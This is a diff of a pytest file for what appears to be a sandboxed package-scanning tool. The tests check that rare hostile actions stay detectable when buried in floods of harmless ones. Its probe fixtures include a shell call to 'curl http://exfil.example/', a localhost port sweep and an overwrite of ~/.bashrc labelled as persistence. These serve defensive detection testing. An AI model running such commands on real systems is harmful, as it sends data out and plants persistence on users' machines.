@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 from conftest import Triage
-from hostile import PROBES, add_probe, findings, targets
+from hostile import PROBES, add_probe, findings, targets, tight_jail
 from standins import Index
 
 import snakehook
@@ -122,7 +122,7 @@ def test_when_the_warden_dies_of_a_package_that_is_a_finding(last_words: list[An
 FLOODS = {
     "connections to this machine hide none to another": (
         """
-for port in range(1, 2300):
+for port in range(1, 130):
     with socket.socket() as one: one.connect_ex(("127.0.0.1", port))
 with socket.socket() as one: one.connect_ex(("192.0.2.80", 443))
 """,
@@ -130,7 +130,7 @@ with socket.socket() as one: one.connect_ex(("192.0.2.80", 443))
     ),
     "programs that are not there hide none that is": (
         """
-for number in range(2300):
+for number in range(130):
     try: os.execv(f"/nowhere/{number}", [str(number)])
     except OSError: pass
 os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
@@ -139,7 +139,7 @@ os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
     ),
     "questions for one name hide none for another": (
         """
-for number in range(2300):
+for number in range(130):
     with socket.socket(type=socket.SOCK_DGRAM) as one:
         one.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4same\\7example\\0\\0\\1\\0\\1", ("127.0.0.1", 53))
         one.recv(100)
@@ -150,14 +150,14 @@ except OSError: pass
     ),
     "files hide none that lasts": (
         """
-for number in range(2300): open(f"/home/dev/.a{number:04}", "w").close()
+for number in range(130): open(f"/home/dev/.a{number:04}", "w").close()
 open("/home/dev/.bashrc", "w").write("kept")
 """,
         ("persistence.write", "/home/dev/.bashrc"),
     ),
     "deleted files hide none that lasted": (
         """
-for number in range(2300):
+for number in range(130):
     open(f"/tmp/a{number}", "w").close()
     os.unlink(f"/tmp/a{number}")
 open("/home/dev/.bashrc", "w").write("kept")
@@ -187,10 +187,10 @@ decode()
 
 
 @pytest.mark.parametrize("what", FLOODS)
-def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str) -> None:
+def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str, tmp_path: Path) -> None:
     source, (rule, words) = FLOODS[what]
     add_probe(index, source)
-    _, report, _ = triage("probe", "--mode", "import")
+    _, report, _ = triage("probe", "--mode", "import", JAIL_DIR=tight_jail(tmp_path))
     assert report["outcome"] == "ok", (report["reason"], report["phases"][-1]["stderr"]["text"])
     found = [one for one in report["findings"] if one["rule"] == rule and words in one["title"]]
     assert found and {one["severity"] for one in found} == {"high"}, report["findings"][:20]
